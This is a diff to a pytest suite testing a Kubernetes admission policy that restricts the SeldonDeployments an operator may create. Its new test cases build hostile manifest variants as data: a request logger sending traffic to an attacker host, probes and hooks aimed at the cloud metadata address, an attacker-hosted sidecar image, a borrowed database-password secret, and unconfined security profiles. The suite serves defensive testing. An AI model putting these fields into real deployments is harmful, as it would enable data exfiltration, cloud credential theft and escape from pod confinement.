@@ -13,7 +13,14 @@ SeldonDeployment CRD and the plain manifests' RBAC, once for each source of the 
   ``KubeCluster.apply`` as the operator applies it, under the operator's kubeconfig) is admitted
   on create and on update (a canary added, server-side apply), while an update to a forbidden
   shape, by server-side apply or by merge patch, is refused and changes nothing;
-- each variation the operator never renders is refused, whichever API version it comes through;
+- each variation the operator never renders is refused, whichever API version it comes through:
+  among them what makes Seldon's executor send data elsewhere (a graph ``endpoint`` or
+  ``logger``), what Seldon copies onto the pods and Services (predictor and spec annotations and
+  labels, a componentSpec's metadata, ``seldon.io/`` settings), scheduling of the pods' own
+  (``nodeName``, ``nodeSelector``, ``tolerations``, ...) and probes or hooks aimed at another
+  host; an ``Unconfined`` AppArmor profile once the CRD declares the field (Seldon 1.17.1's does
+  not: its schema keeps the field out before admission), while probes on the pod's own address
+  are admitted;
 - the chart's allow-lists hold every image and ServiceAccount to ``allowed.*`` as the operator
   does (whole match; the operator's runtime image always passes); the manifests have none;
 - the one Secret key the operator mounts (the report token, as a ``secret`` volume listing
@@ -28,6 +35,7 @@ SeldonDeployment CRD and the plain manifests' RBAC, once for each source of the 
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import json
 from collections.abc import Callable, Iterator
@@ -42,6 +50,7 @@ from tests.support.kube import Kubectl
 
 from uplift_operator.adapters.kube import KubeCluster, KubeError
 from uplift_operator.devenv.controlplane import ControlPlane
+from uplift_operator.devenv.seldon_crd import CRD_NAME, seldon_crd
 from uplift_operator.devenv.seldon_standin import seldon_status
 from uplift_operator.render import naming
 from uplift_operator.render.seldon import SeldonV1Backend
@@ -59,21 +68,40 @@ DENIED = f"ValidatingAdmissionPolicy '{POLICY}' with binding '{POLICY}' denied r
 OWNER = ("the uplift-operator ServiceAccount may create only SeldonDeployments with one owner "
          "reference, the controller reference to the UpliftModel of the same name")
 GRAPH = ("a SeldonDeployment of the uplift-operator ServiceAccount serves each predictor from its "
-         "componentSpecs alone: one graph node, no children, no explainer, no prepackaged "
-         "server, modelUri, storageInitializerImage, serviceAccountName or envSecretRefName")
+         "componentSpecs alone: one graph node, of type MODEL and named as the SeldonDeployment, "
+         "with no children, implementation (prepackaged server), modelUri, "
+         "storageInitializerImage, serviceAccountName, envSecretRefName, endpoint, logger, "
+         "parameters or methods")
+PREDICTORS = ("the predictors of a SeldonDeployment of the uplift-operator ServiceAccount hold "
+              "only a name, traffic, replicas, a graph, componentSpecs of a pod spec alone, "
+              "annotations keyed version or uplift.dev/ and labels keyed uplift.dev/ (no "
+              "explainer, shadow, svcOrchSpec, ssl or engineResources; no componentSpecs "
+              "metadata, hpaSpec, kedaSpec, pdbSpec or replicas)")
+SPEC = ("a SeldonDeployment of the uplift-operator ServiceAccount sets only protocol, transport "
+        "and predictors in its spec (no spec.annotations, which Seldon copies onto every pod) "
+        "and no seldon.io/ annotation (Seldon's ingress, Service and executor settings)")
 VOLUMES = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount mount only "
            "emptyDir, configMap and secret volumes, a secret volume only the keys its items "
            "list (no hostPath, no projected token, no whole Secret)")
 POD = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount run as rendered: no "
        "host network, PID or IPC, automountServiceAccountToken false, runAsNonRoot true and not "
-       "uid 0, seccompProfile RuntimeDefault or Localhost, no sysctls or seLinuxOptions")
+       "uid 0, seccompProfile RuntimeDefault or Localhost, no Unconfined AppArmor profile, no "
+       "sysctls or seLinuxOptions")
 CONTAINERS = ("every container of a SeldonDeployment of the uplift-operator ServiceAccount runs "
               "as rendered: not privileged, allowPrivilegeEscalation false, capabilities drop "
-              "ALL and add none, not as root, no Unconfined seccomp profile, no procMount, "
-              "seLinuxOptions or host ports")
+              "ALL and add none, not as root, no Unconfined seccomp or AppArmor profile, no "
+              "procMount, seLinuxOptions or host ports")
 ENV_FROM = ("the containers of a SeldonDeployment of the uplift-operator ServiceAccount take no "
             "envFrom: the operator renders none, and it would bring every key of a Secret into "
             "the environment")
+PROBES = ("no probe or lifecycle hook of a SeldonDeployment of the uplift-operator "
+          "ServiceAccount names a host (httpGet.host, tcpSocket.host): the kubelet would "
+          "connect there from the node")
+POD_FIELDS = ("the pods of a SeldonDeployment of the uplift-operator ServiceAccount set only "
+              "containers, volumes, securityContext, serviceAccountName, "
+              "automountServiceAccountToken and terminationGracePeriodSeconds, as rendered: no "
+              "nodeName, nodeSelector, affinity, tolerations, schedulerName, priorityClassName, "
+              "runtimeClassName, hostAliases, dnsConfig, imagePullSecrets or init containers")
 IMAGES = ("every image of a SeldonDeployment of the uplift-operator ServiceAccount is the "
           "operator's runtime image or matches allowed.runtimeImages")
 ACCOUNTS = ("every serviceAccountName of a SeldonDeployment of the uplift-operator "
@@ -221,6 +249,10 @@ def _change(manifest: dict[str, Any], change: str) -> dict[str, Any]:
     changed = copy.deepcopy(manifest)
     meta, pod, container = changed["metadata"], _pod(changed), _container(changed)
     security = container["securityContext"]
+    predictor, graph = changed["spec"]["predictors"][0], changed["spec"]["predictors"][0]["graph"]
+    unconfined = {f"container.apparmor.security.beta.kubernetes.io/{container['name']}":
+                  "unconfined"}
+    metadata_service = "169.254.169.254"  # a cloud's instance metadata, from the node
     edits: dict[str, Callable[[], object]] = {
         "no owner": lambda: meta.pop("ownerReferences"),
         "owner of another kind": lambda: meta["ownerReferences"][0].update(kind="Campaign"),
@@ -274,6 +306,74 @@ def _change(manifest: dict[str, Any], change: str) -> dict[str, Any]:
             {"name": "setup", "image": DEFAULT_IMAGE, "securityContext": {"privileged": True}}]),
         "through v1alpha2": lambda: (changed.update(
             apiVersion="machinelearning.seldon.io/v1alpha2"), security.update(privileged=True)),
+        # What Seldon's executor makes of the graph: requests sent on to another host, every
+        # request and response logged to a URL.
+        "a request logger": lambda: graph.update(
+            logger={"url": "http://collector.attacker.example/", "mode": "all"}),
+        "an endpoint elsewhere": lambda: graph.update(
+            endpoint={"service_host": "payments.other-team.svc", "service_port": 8080,
+                      "type": "REST"}),
+        "graph parameters": lambda: graph.update(
+            parameters=[{"name": "x", "type": "STRING", "value": "y"}]),
+        "a router node": lambda: graph.update(type="ROUTER"),
+        "a graph node of another name": lambda: graph.update(name="other"),
+        # What Seldon copies from a predictor onto its pods, Services and executor.
+        "the executor's environment": lambda: predictor.update(svcOrchSpec={"env": [
+            {"name": "X", "valueFrom": {"secretKeyRef": {"name": "payments-db",
+                                                         "key": "password"}}}]}),
+        "an ssl Secret": lambda: predictor.update(ssl={"certSecretName": "payments-db"}),
+        "a shadow": lambda: predictor.update(shadow=True),
+        "a KEDA trigger": lambda: predictor["componentSpecs"][0].update(kedaSpec={
+            "triggers": [{"type": "metrics-api", "metadata": {
+                "url": f"http://{metadata_service}/", "valueLocation": "x"}}]}),
+        "pod annotations": lambda: predictor["componentSpecs"][0].update(
+            metadata={"annotations": unconfined}),
+        "pod labels": lambda: predictor["componentSpecs"][0].update(
+            metadata={"labels": {"app": "payments"}}),
+        "a legacy AppArmor annotation": lambda: predictor["annotations"].update(unconfined),
+        "a sidecar injector's annotation": lambda: predictor["annotations"].update(
+            {"sidecar.istio.io/proxyImage": "attacker.example/proxy"}),
+        "a predictor label": lambda: predictor["labels"].update(app="payments"),
+        "a Service of another name": lambda: predictor["annotations"].update(
+            {"seldon.io/svc-name": "payments"}),
+        # What Seldon copies onto every pod and reads its settings from.
+        "spec annotations": lambda: changed["spec"].update(
+            annotations={"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}),
+        "a Seldon setting": lambda: meta.update(
+            annotations={"seldon.io/ambassador-config": "prefix: /"}),
+        "an ingress host": lambda: meta.update(
+            annotations={"seldon.io/istio-host": "payments.example.com"}),
+        # Probes and hooks the kubelet would aim elsewhere.
+        "a probe at another host": lambda: container.update(livenessProbe={
+            "httpGet": {"host": metadata_service, "port": 80, "path": "/latest/meta-data/"}}),
+        "a TCP probe at another host": lambda: container.update(readinessProbe={
+            "tcpSocket": {"host": "kubernetes.default.svc", "port": 443}}),
+        "a startup probe at another host": lambda: container.update(startupProbe={
+            "httpGet": {"host": metadata_service, "port": 80}}),
+        "a hook at another host": lambda: container["lifecycle"].update(postStart={
+            "httpGet": {"host": metadata_service, "port": 80, "path": "/"}}),
+        # Pod fields the operator never renders.
+        "a node name": lambda: pod.update(nodeName="control-plane-1"),
+        "a node selector": lambda: pod.update(
+            nodeSelector={"node-role.kubernetes.io/control-plane": ""}),
+        "control-plane tolerations": lambda: pod.update(tolerations=[
+            {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists",
+             "effect": "NoSchedule"}]),
+        "node affinity": lambda: pod.update(affinity={"nodeAffinity": {
+            "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
+                {"matchExpressions": [{"key": "kubernetes.io/hostname", "operator": "In",
+                                       "values": ["node-1"]}]}]}}}),
+        "host aliases": lambda: pod.update(hostAliases=[
+            {"ip": "203.0.113.7", "hostnames": ["mlflow.mlflow.svc"]}]),
+        "another scheduler": lambda: pod.update(schedulerName="my-scheduler"),
+        "a priority class": lambda: pod.update(priorityClassName="system-node-critical"),
+        "a runtime class": lambda: pod.update(runtimeClassName="runc"),
+        "DNS of its own": lambda: pod.update(
+            dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.7"]}),
+        "image pull secrets": lambda: pod.update(imagePullSecrets=[{"name": "registry-creds"}]),
+        "an init container": lambda: pod.update(initContainers=[
+            {k: copy.deepcopy(v) for k, v in container.items() if k != "lifecycle"}
+            | {"name": "setup"}]),
     }
     edits[change]()
     return changed
@@ -286,10 +386,28 @@ def _change(manifest: dict[str, Any], change: str) -> dict[str, Any]:
     ("not the controller", OWNER),
     ("two owners", OWNER),
     ("another model's name", OWNER),
-    ("an explainer", GRAPH),
+    ("an explainer", PREDICTORS),
     ("a child node", GRAPH),
     ("a prepackaged server", GRAPH),
     ("a storage initializer image", GRAPH),
+    ("a request logger", GRAPH),
+    ("an endpoint elsewhere", GRAPH),
+    ("graph parameters", GRAPH),
+    ("a router node", GRAPH),
+    ("a graph node of another name", GRAPH),
+    ("the executor's environment", PREDICTORS),
+    ("an ssl Secret", PREDICTORS),
+    ("a shadow", PREDICTORS),
+    ("a KEDA trigger", PREDICTORS),
+    ("pod annotations", PREDICTORS),
+    ("pod labels", PREDICTORS),
+    ("a legacy AppArmor annotation", PREDICTORS),
+    ("a sidecar injector's annotation", PREDICTORS),
+    ("a predictor label", PREDICTORS),
+    ("a Service of another name", PREDICTORS),
+    ("spec annotations", SPEC),
+    ("a Seldon setting", SPEC),
+    ("an ingress host", SPEC),
     ("an extra hostPath volume", VOLUMES),
     ("a projected token volume", VOLUMES),
     ("a whole Secret's volume", VOLUMES),
@@ -312,6 +430,21 @@ def _change(manifest: dict[str, Any], change: str) -> dict[str, Any]:
     ("a privileged init container", CONTAINERS),
     ("through v1alpha2", CONTAINERS),
     ("envFrom a Secret", ENV_FROM),
+    ("a probe at another host", PROBES),
+    ("a TCP probe at another host", PROBES),
+    ("a startup probe at another host", PROBES),
+    ("a hook at another host", PROBES),
+    ("a node name", POD_FIELDS),
+    ("a node selector", POD_FIELDS),
+    ("control-plane tolerations", POD_FIELDS),
+    ("node affinity", POD_FIELDS),
+    ("host aliases", POD_FIELDS),
+    ("another scheduler", POD_FIELDS),
+    ("a priority class", POD_FIELDS),
+    ("a runtime class", POD_FIELDS),
+    ("DNS of its own", POD_FIELDS),
+    ("image pull secrets", POD_FIELDS),
+    ("an init container", POD_FIELDS),
 ])
 def test_what_the_operator_never_renders_is_refused(
         policy: str, admin: Kubectl, operator_cluster: KubeCluster, change: str,
@@ -334,7 +467,7 @@ def test_the_chart_holds_images_and_service_accounts_to_the_allow_lists(
         # A whole match, as the operator's: the allowed pattern inside a longer name is not.
         "an allowed image as a suffix": (_render(owner, image=f"evil.example/{CANARY_IMAGE}"),
                                          IMAGES),
-        "an init container's image": (_init_container(_render(owner), "busybox"), IMAGES),
+        "a second container's image": (_sidecar(_render(owner), "busybox"), IMAGES),
         "a service account outside the list": (_render(owner, service_account_name="deployer"),
                                                ACCOUNTS),
     }
@@ -376,15 +509,15 @@ def test_the_chart_holds_secret_references_to_the_decision_key_and_rbac_secret_n
     assert volumes == {"report-senders"} and refs | volumes == {
         *SECRET_NAMES, naming.decision_key_secret(owner.name)}
     operator_cluster.apply(rendered, PLURAL)
-    init = _init_container(rendered, DEFAULT_IMAGE)
-    _pod(init)["initContainers"][0]["env"] = [
+    sidecar = _sidecar(rendered, DEFAULT_IMAGE)
+    _pod(sidecar)["containers"][-1]["env"] = [
         {"name": "X", "valueFrom": {"secretKeyRef": {"name": "payments-db", "key": "password"}}}]
     outside = {
         "credentials from another Secret": _render(
             owner, credential_env=(("MLFLOW_TRACKING_TOKEN", "payments-db", "password"),)),
         "another model's decision key": _secret_ref(rendered, "UPLIFT_DECISION_KEY",
                                                     "other-decision-key"),
-        "an init container's secretKeyRef": init,
+        "a second container's secretKeyRef": sidecar,
         "the report token from another Secret": _render(
             owner, report_token=("payments-db", "password")),
         "another model's decision key as a volume": _secret_volume(
@@ -399,11 +532,111 @@ def test_the_chart_holds_secret_references_to_the_decision_key_and_rbac_secret_n
             assert _pod(stored) == _pod(manifest), what
 
 
-def _init_container(manifest: dict[str, Any], image: str) -> dict[str, Any]:
+def _sidecar(manifest: dict[str, Any], image: str) -> dict[str, Any]:
+    """``manifest`` with a second container in its last predictor's pod (the operator renders
+    none; every container is held to the same rules, an init container is refused outright)."""
     changed = copy.deepcopy(manifest)
-    _pod(changed)["initContainers"] = [{**copy.deepcopy(_container(changed)), "name": "setup",
-                                        "image": image}]
+    _pod(changed)["containers"].append({**copy.deepcopy(_container(changed)), "name": "sidecar",
+                                        "image": image})
     return changed
+
+
+def test_probes_and_hooks_on_the_pods_own_address_are_admitted(
+        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
+    """Only a probe's or hook's host is refused: without one the kubelet checks the pod's own
+    IP, and an exec handler runs in the container as its command does (Seldon adds such probes
+    itself to a container that has none)."""
+    owner = _owner(admin, f"probed-{policy}")
+    manifest = _render(owner)
+    _container(manifest).update(
+        readinessProbe={"httpGet": {"path": "/v2/health/ready", "port": 9000}},
+        livenessProbe={"tcpSocket": {"port": 9000}},
+        startupProbe={"exec": {"command": ["python", "-c", "pass"]}})
+    operator_cluster.apply(manifest, PLURAL)
+    stored = _container(admin.get("seldondeployment", owner.name, NAMESPACE))
+    assert stored["readinessProbe"]["httpGet"]["port"] == 9000
+    assert stored["livenessProbe"]["tcpSocket"] == {"port": 9000}
+    assert stored["lifecycle"] == _container(manifest)["lifecycle"]  # the drain hook: exec
+
+
+#: Where Seldon's v1 schema describes a componentSpec's pod spec.
+POD_SCHEMA = ("/spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/predictors/"
+              "items/properties/componentSpecs/items/properties/spec/properties")
+APPARMOR_SCHEMAS = (f"{POD_SCHEMA}/securityContext/properties/appArmorProfile",
+                    f"{POD_SCHEMA}/containers/items/properties/securityContext/properties/"
+                    "appArmorProfile")
+
+
+def _apparmor(manifest: dict[str, Any], pod: str | None = None,
+              container: str | None = None) -> dict[str, Any]:
+    """``manifest`` with the AppArmor profile types given, on its last predictor's pod and its
+    runtime container."""
+    changed = copy.deepcopy(manifest)
+    if pod is not None:
+        _pod(changed)["securityContext"]["appArmorProfile"] = {"type": pod}
+    if container is not None:
+        _container(changed)["securityContext"]["appArmorProfile"] = {"type": container}
+    return changed
+
+
+def _apparmor_kept(admin: Kubectl, manifest: dict[str, Any]) -> bool:
+    """Whether the SeldonDeployment schema keeps a pod's appArmorProfile (the administrator's
+    server-side dry run: strict field validation refuses an undeclared field)."""
+    probe = _apparmor(manifest, pod="RuntimeDefault")
+    probe["metadata"]["name"] = "apparmor-schema-probe"  # never stored: no name taken
+    attempt = admin.run("create", "--dry-run=server", "-o", "json", "-f", "-", check=False,
+                        input=json.dumps(probe))
+    return attempt.returncode == 0 and "appArmorProfile" in json.dumps(
+        _pod(json.loads(attempt.stdout)))
+
+
+@contextlib.contextmanager
+def _schema_with_apparmor(admin: Kubectl, manifest: dict[str, Any]) -> Iterator[None]:
+    """Seldon's CRD as generated from Kubernetes >= 1.30 types would be: appArmorProfile in a
+    componentSpec's pod and container securityContext (1.17.1's has neither); put back after."""
+    if not seldon_crd(quiet=True)[1]:  # the stand-in's open schema keeps every field
+        yield
+        return
+    field = {"type": "object", "required": ["type"], "properties": {
+        "type": {"type": "string"}, "localhostProfile": {"type": "string"}}}
+    admin.run("patch", "crd", CRD_NAME, "--type=json", "-p", json.dumps(
+        [{"op": "test", "path": "/spec/versions/0/name", "value": "v1"}]
+        + [{"op": "add", "path": path, "value": field} for path in APPARMOR_SCHEMAS]))
+    try:
+        admin.wait_for(lambda: _apparmor_kept(admin, manifest), timeout=30,
+                       what="appArmorProfile in the SeldonDeployment schema")
+        yield
+    finally:
+        admin.run("patch", "crd", CRD_NAME, "--type=json", "-p", json.dumps(
+            [{"op": "remove", "path": path} for path in APPARMOR_SCHEMAS]))
+        admin.wait_for(lambda: not _apparmor_kept(admin, manifest), timeout=30,
+                       what="appArmorProfile out of the SeldonDeployment schema")
+
+
+def test_an_unconfined_apparmor_profile_is_refused(
+        policy: str, admin: Kubectl, operator_cluster: KubeCluster) -> None:
+    """As seccomp's: a profile RuntimeDefault or Localhost, or none (the runtime's default),
+    never Unconfined, on the pod or a container. Seldon 1.17.1's CRD predates the field, so its
+    schema keeps it out before admission; the rule holds once a CRD carries it. The legacy
+    annotations cannot reach the pods (the predictor annotations are refused)."""
+    owner = _owner(admin, f"confined-{policy}")
+    rendered = _render(owner)
+    if seldon_crd(quiet=True)[1]:
+        with pytest.raises(KubeError) as undeclared:
+            operator_cluster.apply(_apparmor(rendered, pod="Unconfined"), PLURAL)
+        assert "appArmorProfile: field not declared in schema" in str(undeclared.value)
+        assert DENIED not in str(undeclared.value)
+    with _schema_with_apparmor(admin, rendered):
+        _refused(operator_cluster, _apparmor(rendered, pod="Unconfined"), POD)
+        _refused(operator_cluster, _apparmor(rendered, container="Unconfined"), CONTAINERS)
+        confined = _apparmor(rendered, pod="RuntimeDefault", container="Localhost")
+        _container(confined)["securityContext"]["appArmorProfile"]["localhostProfile"] = "uplift"
+        operator_cluster.apply(confined, PLURAL)
+        stored = admin.get("seldondeployment", owner.name, NAMESPACE)
+        assert _pod(stored)["securityContext"]["appArmorProfile"] == {"type": "RuntimeDefault"}
+        assert _container(stored)["securityContext"]["appArmorProfile"] == {
+            "type": "Localhost", "localhostProfile": "uplift"}
+        operator_cluster.apply(rendered, PLURAL)  # as the operator renders it again
 
 
 def test_nobody_else_is_judged(policy: str, admin: Kubectl) -> None:
